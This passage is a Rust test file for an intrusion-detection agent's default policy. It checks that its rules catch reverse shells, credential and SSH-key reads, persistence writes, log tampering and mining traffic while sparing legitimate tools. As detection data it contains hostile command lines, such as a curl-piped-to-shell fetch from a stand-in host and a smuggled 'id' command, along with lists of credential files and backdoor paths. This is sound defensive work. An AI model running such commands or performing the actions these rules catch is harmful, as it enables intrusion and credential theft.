//! The shipped default policy (`packaging/policy.toml`): it parses, and its rules do what its
//! comments promise.

use std::net::IpAddr;

use super::tests::compile;
use super::*;

pub(super) const DEFAULT: &str = include_str!("../../../packaging/policy.toml");

pub(super) fn default_policy() -> Policy {
    compile(&[("/usr/lib/vigil/policy.toml", DEFAULT)]).expect("the shipped default is valid")
}

fn exec_hits(
    p: &Policy,
    path: &str,
    parent: Option<&str>,
    stdio_socket: bool,
) -> Vec<(String, Action)> {
    let ctx = ExecContext {
        path,
        sha256: None,
        parent_exe: parent,
        stdio_socket,
        parent_stdio_socket: false,
        parent_accepted: false,
        image_changed_secs_ago: None,
        downloaded_by: None,
        cmdline: None,
    };
    p.exec_rules(&ctx).iter().map(RuleRef::owned).collect()
}

fn hit(name: &str, action: Action) -> Vec<(String, Action)> {
    vec![(name.to_owned(), action)]
}

#[test]
fn default_settings() {
    let p = default_policy();
    assert_eq!(p.mode, Mode::Enforce);
    assert_eq!(p.thresholds, None);
    assert_eq!(p.model, ModelActions::default());
    assert_eq!(p.response, ResponseLimits::default());
    let names: Vec<_> = (0..).map_while(|i| p.rule_name(i)).collect();
    assert_eq!(
        names,
        [
            "shell-on-socket",
            "command-from-socket-shell",
            "shell-under-socket-relay",
            "service-spawns-shell",
            "network-server-spawns-shell",
            "exec-from-dev-shm",
            "hidden-fresh-binary-in-tmp",
            "system-name-in-temp-dir",
            "downloaded-program-run",
            "fileless-exec",
            "reverse-shell-command",
            "reverse-shell-code",
            "decoded-code-run",
            "miner-command",
            "security-service-stopped",
            "security-process-killed",
            "protection-disabled",
            "tracks-cleared",
            "root-account-created",
            "root-password-set",
            "privileged-group-granted",
            "crontab-installed-by-script",
            "credential-hunt",
            "privilege-escalation-recon",
            "immutable-attribute-changed",
            "host-namespaces-entered",
            "root-filesystem-wipe",
            "shell-connects-out",
            "mining-pool-port",
            "kernel-module-load",
            "ptrace-attach",
            "process-memory-write",
            "process-memory-read",
            "environ-read",
            "preload-injection",
            "gained-root",
            "root-denied",
            "port-scan",
            "fake-kernel-thread",
            "deleted-program-running",
            "setuid-bit",
            "file-capability",
            "process-hidden",
            "kernel-setting-changed",
            "raw-socket",
            "download-piped-to-shell",
            "decoded-payload-to-shell",
            "reverse-shell-relay",
            "mass-file-replacement",
            "mass-encryption",
            "agent-signalled",
            "security-service-signalled",
            "bpf-hook-load",
            "credential-read",
            "ssh-key-read",
            "cloud-credential-read",
            "tls-key-read",
            "persistence-write",
            "system-program-write",
            "preload-write",
            "account-write",
            "log-tamper",
            "raw-disk-access",
            "agent-tampered",
            "history-tamper",
        ]
    );
}

#[test]
fn reverse_shells_are_quarantined_but_ordinary_shells_are_not() {
    let p = default_policy();
    for shell in [
        "/usr/bin/bash",
        "/bin/sh",
        "/usr/bin/python3.12",
        "/usr/bin/perl",
        "/usr/bin/php8.3",
    ] {
        assert_eq!(
            exec_hits(&p, shell, Some("/usr/bin/nc"), true),
            hit("shell-on-socket", Action::Quarantine),
            "{shell}"
        );
        assert!(
            exec_hits(&p, shell, Some("/usr/sbin/sshd"), false).is_empty(),
            "{shell}"
        );
    }
    assert!(exec_hits(&p, "/usr/bin/ls", None, true).is_empty());
    // What is typed into a shell that redirected itself onto a socket.
    assert_eq!(
        exec_hits(&p, "/usr/bin/id", Some("/usr/bin/bash"), true),
        hit("command-from-socket-shell", Action::Alert)
    );
    assert!(exec_hits(&p, "/usr/bin/id", Some("/usr/bin/bash"), false).is_empty());
    assert!(exec_hits(&p, "/usr/bin/id", Some("/usr/sbin/inetd"), true).is_empty());
    // An interpreter that put the socket on its stdio itself and runs what it reads.
    for interpreter in ["/usr/bin/perl", "/root/.pyenv/versions/3.11.7/bin/python3", "/usr/bin/ruby3.1"] {
        assert_eq!(
            exec_hits(&p, "/usr/bin/id", Some(interpreter), true),
            hit("command-from-socket-shell", Action::Alert),
            "{interpreter}"
        );
        assert!(exec_hits(&p, "/usr/bin/id", Some(interpreter), false).is_empty(), "{interpreter}");
    }
    // A shell on a pty whose parent relays a socket: python's pty.spawn, but not sshd.
    let relayed = |shell, parent| {
        let ctx = ExecContext {
            path: shell,
            sha256: None,
            parent_exe: Some(parent),
            stdio_socket: false,
            parent_stdio_socket: true,
            parent_accepted: false,
            image_changed_secs_ago: None,
            downloaded_by: None,
            cmdline: None,
        };
        p.exec_rules(&ctx).iter().map(RuleRef::owned).collect::<Vec<_>>()
    };
    let rule = hit("shell-under-socket-relay", Action::Quarantine);
    assert_eq!(relayed("/bin/sh", "/usr/bin/python3.11"), rule);
    assert_eq!(relayed("/usr/bin/bash", "/root/.pyenv/versions/3.12.1/bin/python3.12"), rule);
    assert_eq!(relayed("/usr/bin/bash", "/usr/bin/perl"), rule);
    assert!(relayed("/usr/bin/bash", "/usr/sbin/sshd").is_empty(), "sshd keeps the connection on its stdio");
    assert!(relayed("/usr/bin/bash", "/usr/lib/openssh/sshd-session").is_empty());
}

#[test]
fn any_network_server_starting_a_shell_is_alerted() {
    let p = default_policy();
    let exec = |path, parent, parent_accepted| {
        let ctx = ExecContext {
            path,
            sha256: None,
            parent_exe: Some(parent),
            stdio_socket: false,
            parent_stdio_socket: false,
            parent_accepted,
            image_changed_secs_ago: None,
            downloaded_by: None,
            cmdline: None,
        };
        p.exec_rules(&ctx).iter().map(RuleRef::owned).collect::<Vec<_>>()
    };
    let rule = hit("network-server-spawns-shell", Action::Alert);
    for parent in ["/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "/usr/bin/node", "/usr/bin/python3.11", "/srv/app/bin/api"] {
        for child in ["/usr/bin/dash", "/bin/bash", "/usr/bin/nc.openbsd", "/usr/bin/socat"] {
            assert_eq!(exec(child, parent, true), rule, "{parent} -> {child}");
            assert!(exec(child, parent, false).is_empty(), "{parent} -> {child}, never accepted");
        }
        assert!(exec("/usr/bin/git", parent, true).is_empty(), "{parent} -> git");
    }
    // A named service that also accepts meets both rules; the quarantine decides.
    let both = exec("/bin/sh", "/usr/sbin/nginx", true);
    assert!(both.contains(&("service-spawns-shell".to_owned(), Action::Quarantine)), "{both:?}");
    assert!(both.contains(&("network-server-spawns-shell".to_owned(), Action::Alert)), "{both:?}");
}

#[test]
fn services_spawning_shells_are_quarantined() {
    let p = default_policy();
    for parent in [
        "/usr/sbin/nginx",
        "/usr/sbin/php-fpm8.2",
        "/usr/lib/postgresql/16/bin/postgres",
        "/usr/bin/redis-server",
    ] {
        for child in ["/usr/bin/dash", "/usr/bin/curl", "/usr/bin/ncat"] {
            assert_eq!(
                exec_hits(&p, child, Some(parent), false),
                hit("service-spawns-shell", Action::Quarantine),
                "{parent} -> {child}"
            );
        }
        assert!(exec_hits(&p, "/usr/bin/logger", Some(parent), false).is_empty());
    }
    assert!(exec_hits(&p, "/usr/bin/bash", Some("/usr/bin/node"), false).is_empty());
    // initdb's bootstrap backend lists the locales through a shell; any other command is held.
    let postgres = Some("/usr/lib/postgresql/15/bin/postgres");
    let with_cmdline = |cmdline| {
        let ctx = ExecContext { path: "/bin/sh", sha256: None, parent_exe: postgres, stdio_socket: false, parent_stdio_socket: false, parent_accepted: false, image_changed_secs_ago: None, downloaded_by: None, cmdline: Some(cmdline) };
        p.exec_rules(&ctx).iter().map(RuleRef::owned).collect::<Vec<_>>()
    };
    assert!(with_cmdline("sh -c locale -a").is_empty());
    assert_eq!(with_cmdline("sh -c id; locale -a"), hit("service-spawns-shell", Action::Quarantine));
    assert_eq!(with_cmdline("sh -c curl http://x/s | sh"), hit("service-spawns-shell", Action::Quarantine));
}

#[test]
fn dev_shm_is_denied_in_the_kernel_and_memfd_in_user_space() {
    let p = default_policy();
    assert_eq!(
        exec_hits(&p, "/dev/shm/.x/payload", None, false),
        hit("exec-from-dev-shm", Action::Kill)
    );
    assert_eq!(
        exec_hits(&p, "/memfd:x (deleted)", None, false),
        hit("fileless-exec", Action::Alert)
    );
    assert_eq!(
        p.kernel_exec_denies(),
        [(KernelExecMatch::Prefix(b"/dev/shm/".to_vec()), 5)]
    );
    assert!(p.kernel_connect_denies().is_empty());
}

#[test]
fn shells_connecting_out_are_quarantined() {
    let p = default_policy();
    let hits = |exe| {
        let addr: IpAddr = "203.0.113.7".parse().expect("addr");
        p.connect_rules(&ConnectContext {
            exe,
            addr,
            port: 4444,
        })
        .iter()
        .map(|r| r.name.to_owned())
        .collect::<Vec<_>>()
    };
    assert_eq!(hits("/usr/bin/bash"), ["shell-connects-out"]);
    assert!(hits("/usr/bin/curl").is_empty());
    // Health checks on loopback are not reverse shells; every other destination is.
    let to = |addr: &str| {
        p.connect_rules(&ConnectContext { exe: "/usr/bin/bash", addr: addr.parse().expect("addr"), port: 80 }).len()
    };
    for local in ["127.0.0.1", "127.255.0.9", "::1", "::ffff:127.0.0.1"] {
        assert_eq!(to(local), 0, "{local}");
    }
    for remote in ["0.0.0.1", "10.1.2.3", "126.255.255.255", "128.0.0.1", "192.168.1.1", "255.255.255.254", "2001:db8::1", "fd00::1", "fe80::1"] {
        assert_eq!(to(remote), 1, "{remote}");
    }
}

#[test]
fn connections_to_mining_pool_ports_are_alerted_from_anything() {
    let p = default_policy();
    let hits = |exe, addr: &str, port| {
        p.connect_rules(&ConnectContext { exe, addr: addr.parse().expect("addr"), port })
            .iter()
            .map(|r| r.owned())
            .collect::<Vec<_>>()
    };
    for (exe, addr, port) in [("/usr/bin/python3.11", "127.0.0.1", 3333), ("/tmp/.x/kworker", "198.51.100.4", 14444), ("/usr/bin/curl", "2001:db8::1", 45700)] {
        assert_eq!(hits(exe, addr, port), [("mining-pool-port".to_owned(), Action::Alert)], "{exe} {addr}:{port}");
    }
    for port in [80, 443, 5432, 6379, 8080, 4433] {
        assert!(hits("/usr/bin/python3.11", "127.0.0.1", port).is_empty(), "{port}");
    }
}

#[test]
fn default_protects_infrastructure_and_allows_nothing() {
    let p = default_policy();
    for exe in [
        "/usr/sbin/sshd",
        "/usr/bin/containerd",
        "/usr/bin/dockerd",
        "/usr/local/bin/kubelet",
    ] {
        assert!(p.protected(exe, "x"), "{exe}");
    }
    assert!(!p.protected("/usr/bin/bash", "bash"));
    assert!(!p.allowlisted("/usr/bin/apt", None, 0, Some("/system.slice/x.service")));
}

#[test]
fn a_monitor_drop_in_keeps_the_default_rules() {
    let p = compile(&[
        ("/usr/lib/vigil/policy.toml", DEFAULT),
        (
            "/etc/vigil/policy.d/00-monitor.toml",
            "mode = \"monitor\"\n",
        ),
    ])
    .expect("valid");
    assert_eq!(p.mode, Mode::Monitor);
    assert_eq!(
        exec_hits(&p, "/dev/shm/x", None, false),
        hit("exec-from-dev-shm", Action::Kill)
    );
    assert!(p.kernel_exec_denies().is_empty());
}

#[test]
fn programs_a_network_client_wrote_alert_unless_an_installer_did() {
    let p = default_policy();
    let hits = |path: &str, by: Option<&str>| {
        let ctx = ExecContext { path, sha256: None, parent_exe: None, stdio_socket: false, parent_stdio_socket: false, parent_accepted: false, image_changed_secs_ago: None, downloaded_by: by, cmdline: None };
        p.exec_rules(&ctx).iter().map(RuleRef::owned).collect::<Vec<_>>()
    };
    let rule = hit("downloaded-program-run", Action::Alert);
    for (path, by) in [
        ("/tmp/x", "/usr/bin/curl"),
        ("/usr/local/bin/helper", "/usr/bin/wget"),
        ("/var/tmp/a/b", "/usr/bin/python3.11"),
        ("/dev/shm/k", "/usr/bin/bash"),
        ("/home/u/bin/t", "/usr/bin/nc.openbsd"),
    ] {
        let got = hits(path, Some(by));
        assert!(got.contains(&rule[0]), "{path} by {by}: {got:?}");
    }
    for by in [
        "/usr/bin/apt-get",
        "/usr/lib/apt/methods/http",
        "/root/.cargo/bin/rustup",
        "/home/u/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/cargo",
        "/usr/local/go/bin/go",
        "/usr/bin/containerd",
        "/usr/bin/node",
    ] {
        assert!(hits("/opt/tool/bin/t", Some(by)).is_empty(), "{by} installs programs");
    }
    assert!(hits("/tmp/x", None).is_empty(), "written by nobody with a connection");
}

#[test]
fn hidden_programs_fresh_in_temp_dirs_alert() {
    let p = default_policy();
    let hits = |path: &str, secs| {
        let ctx = ExecContext { path, sha256: None, parent_exe: None, stdio_socket: false, parent_stdio_socket: false, parent_accepted: false, image_changed_secs_ago: secs, downloaded_by: None, cmdline: None };
        p.exec_rules(&ctx).iter().map(RuleRef::owned).collect::<Vec<_>>()
    };
    let rule = hit("hidden-fresh-binary-in-tmp", Action::Alert);
    for path in ["/tmp/.ICE-unix/.kdevtmpfsi", "/tmp/.x", "/var/tmp/.cache/x/kworker", "/tmp/a/b/.s"] {
        assert_eq!(hits(path, Some(3)), rule, "{path}");
        assert!(hits(path, Some(301)).is_empty(), "{path}: settled");
        assert!(hits(path, None).is_empty(), "{path}: age unknown");
    }
    // A build's output run from its tree in /tmp, and hidden programs elsewhere.
    for path in ["/tmp/crate/target/debug/crate", "/home/u/.local/bin/x", "/tmpx/.x"] {
        assert!(hits(path, Some(3)).is_empty(), "{path}");
    }
}

#[test]
fn system_daemon_names_run_from_temp_dirs_alert() {
    let p = default_policy();
    let hits = |path: &str| {
        let ctx = ExecContext { path, sha256: None, parent_exe: None, stdio_socket: false, parent_stdio_socket: false, parent_accepted: false, image_changed_secs_ago: None, downloaded_by: None, cmdline: None };
        p.exec_rules(&ctx).iter().map(RuleRef::owned).collect::<Vec<_>>()
    };
    let rule = hit("system-name-in-temp-dir", Action::Alert);
    for path in ["/tmp/sshd", "/tmp/.x/sshd", "/var/tmp/systemd-journald", "/var/tmp/.cache/cron", "/tmp/a/dockerd", "/tmp/php-fpm8.2", "/tmp/su"] {
        assert_eq!(hits(path), rule, "{path}");
    }
    // /dev/shm is killed outright; the name is added to the record.
    assert!(hits("/dev/shm/.s/sshd").contains(&rule[0]));
    for path in [
        "/usr/sbin/sshd", "/tmp/rootfs/usr/sbin/sshd", "/tmp/build/openssh/sshd/x", "/tmp/sshd.log", "/tmp/x/sudoku",
        "/home/u/sshd",
    ] {
        assert!(hits(path).is_empty(), "{path}");
    }
}

#[test]
fn module_loads_ptrace_attaches_root_and_scans_alert_but_bpf_and_memfds_do_not() {
    let p = default_policy();
    let hits = |event| {
        p.event_rules(&EventContext { event, exe: "/usr/bin/anything", parent: "" })
            .iter()
            .map(RuleRef::owned)
            .collect::<Vec<_>>()
    };
    assert_eq!(hits(SecurityEvent::ModuleLoad), hit("kernel-module-load", Action::Alert));
    assert_eq!(hits(SecurityEvent::PtraceAttach), hit("ptrace-attach", Action::Alert));
    assert_eq!(hits(SecurityEvent::ProcessMemoryWrite), hit("process-memory-write", Action::Alert));
    for launcher in ["/usr/bin/orted", "/usr/bin/hydra_pmi_proxy", "/usr/bin/mpirun.openmpi", "/usr/sbin/slurmstepd"] {
        let ctx = EventContext { event: SecurityEvent::ProcessMemoryWrite, exe: "/home/u/solver", parent: launcher };
        assert!(p.event_rules(&ctx).is_empty(), "MPI ranks under {launcher}");
    }
    assert_eq!(hits(SecurityEvent::ProcessMemoryRead), hit("process-memory-read", Action::Alert));
    for profiler in ["/usr/local/bin/py-spy", "/root/.cargo/bin/rbspy"] {
        let ctx = EventContext { event: SecurityEvent::ProcessMemoryRead, exe: profiler, parent: "/bin/bash" };
        assert!(p.event_rules(&ctx).is_empty(), "{profiler}");
    }
    let rank = EventContext { event: SecurityEvent::ProcessMemoryRead, exe: "/home/u/solver", parent: "/usr/bin/orted" };
    assert!(p.event_rules(&rank).is_empty(), "MPI ranks read each other too");
    assert_eq!(hits(SecurityEvent::EnvironRead), hit("environ-read", Action::Alert));
    for reader in ["/usr/lib/systemd/systemd-coredump", "/usr/bin/ps"] {
        let ctx = EventContext { event: SecurityEvent::EnvironRead, exe: reader, parent: "" };
        assert!(p.event_rules(&ctx).is_empty(), "{reader} reads every environment it meets");
    }
    assert_eq!(hits(SecurityEvent::PreloadLibrary), hit("preload-injection", Action::Alert));
    assert_eq!(hits(SecurityEvent::AgentSignalled), hit("agent-signalled", Action::Alert));
    assert_eq!(hits(SecurityEvent::SecurityServiceSignalled), hit("security-service-signalled", Action::Alert));
    let stop = EventContext { event: SecurityEvent::SecurityServiceSignalled, exe: "/usr/sbin/start-stop-daemon", parent: "" };
    assert!(p.event_rules(&stop).is_empty(), "package upgrades restart their services");
    assert_eq!(hits(SecurityEvent::BpfHookLoad), hit("bpf-hook-load", Action::Alert));
    for agent in ["/usr/lib/systemd/systemd", "/usr/bin/cilium-agent", "/usr/bin/tetragon"] {
        let ctx = EventContext { event: SecurityEvent::BpfHookLoad, exe: agent, parent: "" };
        assert!(p.event_rules(&ctx).is_empty(), "{agent} hooks the kernel by design");
    }
    for manager in ["/usr/lib/systemd/systemd", "/usr/bin/containerd-shim-runc-v2"] {
        let ctx = EventContext { event: SecurityEvent::AgentSignalled, exe: manager, parent: "" };
        assert!(p.event_rules(&ctx).is_empty(), "{manager} stops its services");
    }
    assert_eq!(hits(SecurityEvent::GainedRoot), hit("gained-root", Action::Alert));
    assert_eq!(hits(SecurityEvent::RootDenied), hit("root-denied", Action::Alert));
    assert_eq!(hits(SecurityEvent::PortScan), hit("port-scan", Action::Alert));
    assert_eq!(hits(SecurityEvent::FakeKernelThread), hit("fake-kernel-thread", Action::Alert));
    assert_eq!(hits(SecurityEvent::DeletedImage), hit("deleted-program-running", Action::Alert));
    assert_eq!(hits(SecurityEvent::SetuidBit), hit("setuid-bit", Action::Alert));
    let by_dpkg = EventContext { event: SecurityEvent::SetuidBit, exe: "/usr/bin/dpkg", parent: "" };
    assert!(p.event_rules(&by_dpkg).is_empty(), "packages set their own setuid bits");
    assert_eq!(hits(SecurityEvent::FileCapability), hit("file-capability", Action::Alert));
    assert_eq!(hits(SecurityEvent::ProcHidden), hit("process-hidden", Action::Alert));
    assert_eq!(hits(SecurityEvent::KernelSetting), hit("kernel-setting-changed", Action::Alert));
    let at_boot = EventContext {
        event: SecurityEvent::KernelSetting,
        exe: "/usr/lib/systemd/systemd-sysctl",
        parent: "/usr/lib/systemd/systemd",
    };
    assert!(p.event_rules(&at_boot).is_empty(), "sysctl.d applied at boot");
    assert_eq!(hits(SecurityEvent::RawSocket), hit("raw-socket", Action::Alert));
    for network_tool in ["/usr/bin/ping", "/usr/sbin/dhclient", "/usr/lib/systemd/systemd-networkd"] {
        let ctx = EventContext { event: SecurityEvent::RawSocket, exe: network_tool, parent: "" };
        assert!(p.event_rules(&ctx).is_empty(), "{network_tool}");
    }
    assert_eq!(hits(SecurityEvent::MassReplace), hit("mass-file-replacement", Action::Alert));
    assert_eq!(hits(SecurityEvent::MassEncryption), hit("mass-encryption", Action::Alert));
    for compressor in ["/usr/bin/gzip", "/usr/sbin/logrotate"] {
        let ctx = EventContext { event: SecurityEvent::MassReplace, exe: compressor, parent: "" };
        assert!(p.event_rules(&ctx).is_empty(), "{compressor}");
    }
    let nmap = EventContext { event: SecurityEvent::RawSocket, exe: "/usr/bin/nmap", parent: "" };
    assert_eq!(p.event_rules(&nmap).iter().map(RuleRef::owned).collect::<Vec<_>>(), hit("raw-socket", Action::Alert));
    assert!(hits(SecurityEvent::BpfProgLoad).is_empty());
    assert!(hits(SecurityEvent::MemfdCreate).is_empty());
    assert_eq!(hits(SecurityEvent::RelayShell), hit("reverse-shell-relay", Action::Alert));
    for runner in ["/usr/bin/gitlab-runner", "/usr/lib/gitlab-runner/gitlab-runner"] {
        let ctx = EventContext { event: SecurityEvent::RelayShell, exe: "/usr/bin/bash", parent: runner };
        assert!(p.event_rules(&ctx).is_empty(), "{runner} pipes its jobs into bash");
    }
}

fn file_hits(p: &Policy, path: &str, access: FileAccess, exe: &str) -> Vec<(String, Action)> {
    p.file_rules(&FileContext { path, access, exe })
        .iter()
        .map(RuleRef::owned)
        .collect()
}

#[test]
fn system_programs_and_libraries_written_alert_except_from_package_installs() {
    let p = default_policy();
    let (r, w) = (FileAccess::READ, FileAccess::WRITE);
    for path in [
        "/usr/bin/sudo", "/usr/sbin/sshd", "/usr/bin/.x", "/usr/lib/x86_64-linux-gnu/libc.so.6",
        "/usr/lib/x86_64-linux-gnu/libnss_files.so.2", "/usr/lib/openssh/sshd-session",
    ] {
        assert_eq!(file_hits(&p, path, w, "/usr/bin/cp"), hit("system-program-write", Action::Alert), "{path}");
        for installer in ["/usr/bin/dpkg", "/usr/bin/update-alternatives", "/usr/sbin/ldconfig"] {
            assert!(file_hits(&p, path, w, installer).is_empty(), "{installer}: {path}");
        }
        assert!(file_hits(&p, path, r, "/usr/bin/cat").is_empty(), "reading {path}");
    }
    for path in ["/usr/local/bin/kubectl", "/usr/lib/x86_64-linux-gnu/gio/modules/giomodule.cache", "/usr/share/doc/x"] {
        assert!(file_hits(&p, path, w, "/usr/bin/cp").is_empty(), "{path}");
    }
}

#[test]
fn changes_to_vigil_s_own_files_alert_except_from_package_upgrades() {
    let p = default_policy();
    let (r, w, d) = (FileAccess::READ, FileAccess::WRITE, FileAccess::DELETE);
    for (path, access) in [
        ("/etc/vigil/policy.d/00-off.toml", w),
        ("/etc/vigil/policy.d/10-site.toml", d),
        ("/usr/lib/vigil/policy.toml", w),
        ("/usr/lib/vigil/vigil.onnx", d),
        ("/usr/sbin/vigil", d),
    ] {
        assert_eq!(file_hits(&p, path, access, "/usr/bin/bash"), hit("agent-tampered", Action::Alert), "{path}");
        assert!(file_hits(&p, path, access, "/usr/bin/dpkg").is_empty(), "dpkg: {path}");
    }
    // Written, vigil's binary is a system program as well.
    let mut both = hit("system-program-write", Action::Alert);
    both.extend(hit("agent-tampered", Action::Alert));
    assert_eq!(file_hits(&p, "/usr/sbin/vigil", w, "/usr/bin/cp"), both);
    assert!(file_hits(&p, "/usr/sbin/vigil", w, "/usr/bin/dpkg").is_empty());
    assert!(file_hits(&p, "/etc/vigil/policy.d/10-site.toml", r, "/usr/bin/cat").is_empty(), "reading it");
    assert!(file_hits(&p, "/var/lib/mysql/db/t.ibd", w, "/usr/sbin/mysqld").is_empty(), "its state is not watched");
}

#[test]
fn tls_keys_and_cloud_logins_read_alert_except_from_their_servers_and_tools() {
    let p = default_policy();
    let r = FileAccess::READ;
    for path in ["/etc/ssl/private/ssl-cert-snakeoil.key", "/etc/letsencrypt/archive/example.org/privkey3.pem"] {
        assert_eq!(file_hits(&p, path, r, "/usr/bin/cat"), hit("tls-key-read", Action::Alert), "{path}");
        for server in ["/usr/sbin/nginx", "/usr/sbin/apache2", "/usr/lib/postfix/sbin/smtpd"] {
            assert!(file_hits(&p, path, r, server).is_empty(), "{server} {path}");
        }
    }
    assert!(file_hits(&p, "/etc/letsencrypt/archive/example.org/cert3.pem", r, "/usr/bin/cat").is_empty(), "a certificate is public");
    for path in ["/home/u/.config/gcloud/credentials.db", "/root/.azure/msal_token_cache.json"] {
        assert_eq!(file_hits(&p, path, r, "/usr/bin/tar"), hit("cloud-credential-read", Action::Alert), "{path}");
    }
}

#[test]
fn raw_disk_reads_and_writes_alert_except_from_the_storage_tools() {
    let p = default_policy();
    let (r, w) = (FileAccess::READ, FileAccess::WRITE);
    for (path, access, exe) in [
        ("/dev/sda1", r, "/usr/sbin/debugfs"),
        ("/dev/vda", r, "/usr/bin/dd"),
        ("/dev/nvme0n1", w, "/usr/bin/dd"),
        ("/dev/dm-0", r, "/tmp/x"),
        ("/dev/loop3", r, "/usr/bin/strings"),
        ("/dev/mem", r, "/usr/bin/dd"),
    ] {
        assert_eq!(file_hits(&p, path, access, exe), hit("raw-disk-access", Action::Alert), "{exe} {path}");
    }
    for exe in [
        "/usr/sbin/blkid", "/sbin/blkid", "/usr/bin/lsblk", "/usr/sbin/e2fsck", "/usr/sbin/mkfs.ext4",
        "/sbin/lvm", "/usr/lib/systemd/systemd-udevd", "/usr/lib/udev/ata_id", "/usr/bin/mount",
        "/usr/sbin/fdisk", "/usr/sbin/sgdisk", "/usr/sbin/grub-probe",
    ] {
        assert!(file_hits(&p, "/dev/sda", r, exe).is_empty(), "{exe}");
    }
    let rw = FileAccess::from_bits(r.bits() | w.bits());
    for path in ["/dev/null", "/dev/zero", "/dev/tty", "/dev/loop-control", "/dev/shm/x"] {
        assert!(file_hits(&p, path, rw, "/usr/bin/dd").is_empty(), "{path}");
    }
}

#[test]
fn credential_and_key_reads_alert_except_from_the_programs_whose_job_they_are() {
    let p = default_policy();
    let r = FileAccess::READ;
    for (path, exe) in [
        ("/etc/shadow", "/usr/bin/cat"),
        ("/etc/gshadow", "/usr/bin/python3.11"),
        ("/etc/shadow-", "/tmp/x"),
    ] {
        assert_eq!(file_hits(&p, path, r, exe), hit("credential-read", Action::Alert), "{exe} {path}");
    }
    for exe in ["/usr/sbin/sshd", "/usr/sbin/unix_chkpwd", "/usr/bin/sudo", "/usr/sbin/useradd", "/usr/lib/openssh/sshd-session"] {
        assert!(file_hits(&p, "/etc/shadow", r, exe).is_empty(), "{exe}");
    }
    assert!(file_hits(&p, "/etc/passwd", r, "/usr/bin/cat").is_empty(), "passwd is world-readable");
    for path in ["/root/.ssh/id_rsa", "/home/alice/.ssh/id_ed25519", "/etc/ssh/ssh_host_ed25519_key"] {
        assert_eq!(file_hits(&p, path, r, "/usr/bin/tar"), hit("ssh-key-read", Action::Alert), "{path}");
        assert!(file_hits(&p, path, r, "/usr/bin/ssh").is_empty(), "{path}");
    }
    for path in ["/root/.ssh/id_rsa.pub", "/etc/ssh/ssh_host_ed25519_key.pub", "/root/.ssh/known_hosts"] {
        assert!(file_hits(&p, path, r, "/usr/bin/cat").is_empty(), "public: {path}");
    }
    for path in [
        "/root/.aws/credentials",
        "/home/alice/.docker/config.json",
        "/home/alice/.kube/config",
        "/etc/kubernetes/admin.conf",
        "/root/.git-credentials",
        "/home/alice/.pgpass",
        "/root/.my.cnf",
        "/root/.netrc",
    ] {
        assert_eq!(file_hits(&p, path, r, "/usr/bin/cat"), hit("cloud-credential-read", Action::Alert), "{path}");
    }
    for (path, exe) in [
        ("/root/.aws/credentials", "/usr/local/aws-cli/v2/2.15.0/dist/aws"),
        ("/home/alice/.docker/config.json", "/usr/bin/docker"),
        ("/home/alice/.kube/config", "/usr/local/bin/kubectl"),
        ("/root/.git-credentials", "/usr/lib/git-core/git-remote-https"),
        ("/home/alice/.pgpass", "/usr/lib/postgresql/15/bin/psql"),
        ("/root/.my.cnf", "/usr/bin/mariadb-dump"),
        ("/root/.netrc", "/usr/bin/curl"),
    ] {
        assert!(file_hits(&p, path, r, exe).is_empty(), "{exe} {path}");
    }
    assert!(file_hits(&p, "/root/.aws/config", r, "/usr/bin/cat").is_empty(), "settings, not keys");
}

#[test]
fn persistence_and_log_truncation_alert_on_writes_only() {
    let p = default_policy();
    let (r, w) = (FileAccess::READ, FileAccess::WRITE);
    let wt = w.union(FileAccess::TRUNCATE);
    for path in [
        "/etc/cron.d/backdoor",
        "/var/spool/cron/crontabs/root",
        "/etc/systemd/system/evil.service",
        "/etc/systemd/system/multi-user.target.wants/evil.service",
        "/root/.ssh/authorized_keys",
        "/home/bob/.ssh/authorized_keys2",
        "/home/bob/.bashrc",
        "/etc/sudoers.d/90-evil",
        "/etc/profile.d/x.sh",
        "/root/.ssh/rc",
        "/etc/update-motd.d/99-x",
        "/etc/udev/rules.d/75-x.rules",
        "/etc/modules-load.d/x.conf",
        "/etc/anacrontab",
        "/etc/ld.so.conf.d/0-x.conf",
        "/usr/lib/x86_64-linux-gnu/security/pam_unix.so",
        "/usr/lib/x86_64-linux-gnu/security/pam_x.so",
        "/etc/pam.d/sshd",
        "/etc/pam.d/sudo",
        "/etc/apt/apt.conf.d/99hook",
        "/var/spool/cron/atjobs/a0000101a2b3c4",
        "/etc/systemd/system-generators/x",
        "/usr/lib/systemd/system-generators/x",
        "/etc/ssh/sshd_config",
        "/etc/ssh/sshd_config.d/00-x.conf",
    ] {
        assert_eq!(file_hits(&p, path, w, "/usr/bin/bash"), hit("persistence-write", Action::Alert), "{path}");
        assert!(file_hits(&p, path, r, "/usr/bin/bash").is_empty(), "reading is not persistence: {path}");
        assert!(file_hits(&p, path, w, "/usr/bin/dpkg").is_empty(), "package installs: {path}");
    }
    // pam-auth-update (perl) rewrites the shared stacks on package installs.
    assert!(file_hits(&p, "/etc/pam.d/common-auth", w, "/usr/bin/perl").is_empty());
    assert_eq!(file_hits(&p, "/etc/ld.so.preload", w, "/usr/bin/dpkg"), hit("preload-write", Action::Alert));
    assert_eq!(file_hits(&p, "/etc/passwd", w, "/usr/bin/bash"), hit("account-write", Action::Alert));
    assert!(file_hits(&p, "/etc/passwd", w, "/usr/sbin/useradd").is_empty());
    let changes = |flags: u32| FileAccess::from_bits(agent_common::file_access(flags));
    for (flags, how) in [(0o1101, "> auth.log"), (0o4101, "truncate -s 0"), (0o1, "shred"), (0o2, "O_RDWR")] {
        assert_eq!(file_hits(&p, "/var/log/auth.log", changes(flags), "/usr/bin/bash"), hit("log-tamper", Action::Alert), "{how}");
    }
    assert!(file_hits(&p, "/var/log/nginx/access.log", changes(0o2101), "/usr/sbin/nginx").is_empty(), "appending is logging");
    assert_eq!(file_hits(&p, "/var/log/auth.log", FileAccess::DELETE, "/usr/bin/rm"), hit("log-tamper", Action::Alert), "rm");
    assert!(file_hits(&p, "/var/log/syslog.1", FileAccess::DELETE, "/usr/sbin/logrotate").is_empty(), "rotation");
    // A rename onto a watched path writes it: `mv /tmp/x /etc/cron.d/` and `sed -i` both.
    let renamed_onto = FileAccess::WRITE.union(FileAccess::REWRITE);
    assert_eq!(file_hits(&p, "/etc/cron.d/x", renamed_onto, "/usr/bin/mv"), hit("persistence-write", Action::Alert));
    assert!(file_hits(&p, "/var/log/syslog", wt, "/usr/sbin/logrotate").is_empty(), "copytruncate");
    assert!(file_hits(&p, "/var/log/journal/x/system.journal", changes(0o2), "/usr/lib/systemd/systemd-journald").is_empty());
}

#[test]
